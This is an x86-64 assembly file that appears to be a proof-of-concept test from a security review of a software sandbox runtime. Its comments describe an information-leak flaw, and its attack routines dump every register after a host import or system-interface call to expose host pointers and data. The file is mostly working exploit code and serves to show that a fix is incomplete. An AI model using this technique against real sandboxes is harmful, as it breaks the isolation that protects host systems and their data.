# importleak.s: attack() calls a granted host import, then stores every
# register as it finds them after the import returned (zmm0-31, k0-7, and
# the caller-saved general registers rax, rcx, rdx, rsi, rdi, r8-r11, and rsp to tell native-stack addresses apart) into
# a buffer in its region and returns the buffer's address. Import thunks
# (thunk.c) jump to the host function and it returns straight into the
# sandbox: nothing clears what the host code left in the registers (glibc's
# EVEX memcpy leaves copied data in ymm16+/zmm, and host pointers stay in
# rax, rcx, rdx, rsi, rdi, r8-r11). The review's regleak fix clears them
# only on sfi__enter.
        .macro DUMPAFTER callee
        subq $40, %rsp
        call *\callee@GOTPCREL(%rip)
        movq %rax, 0(%rsp)
        movq %r10, 8(%rsp)
        movq %r11, 16(%rsp)
        leaq buf(%rip), %r10
        movl %r10d, %r10d
        movq 0(%rsp), %rax
        movq %rax, %gs:2112(%r10d)
        movq 8(%rsp), %rax
        movq %rax, %gs:2112+56(%r10d)
        movq 16(%rsp), %r11
        addq $40, %rsp
        .irp r, 16,17,18,19,20,21,22,23,24,25,26,27,28,29,30,31
        vmovdqu64 %zmm\r, %gs:64*\r(%r10d)
        .endr
        .irp r, 0,1,2,3,4,5,6,7,8,9,10,11,12,13,14,15
        vmovdqu64 %zmm\r, %gs:64*\r(%r10d)
        .endr
        .irp k, 0,1,2,3,4,5,6,7
        kmovq %k\k, %gs:2048+8*\k(%r10d)
        .endr
        movq %rcx, %gs:2112+8(%r10d)
        movq %rdx, %gs:2112+16(%r10d)
        movq %rsi, %gs:2112+24(%r10d)
        movq %rdi, %gs:2112+32(%r10d)
        movq %r8, %gs:2112+40(%r10d)
        movq %r9, %gs:2112+48(%r10d)
        movq %r11, %gs:2112+64(%r10d)
        movq %rsp, %gs:2112+72(%r10d)
        leaq buf(%rip), %rax
        ret

        .endm

        .text
        .p2align 4, 0xcc
        .globl attack
        .type attack,@function
attack:
        DUMPAFTER host_op

# the same after the runtime's own system interface (no host grant needed):
# isatty(1) makes an ioctl system call in the host's libc, which leaves the
# libc address after the syscall instruction in %rcx
        .p2align 4, 0xcc
        .globl attack_sys
        .type attack_sys,@function
attack_sys:
        movl $1, %edi
        DUMPAFTER __sfi_sys_isatty

        .bss
        .p2align 6
buf:    .zero 2112 + 128

        .include "marker.inc"
        .section .note.GNU-stack,"",@progbits
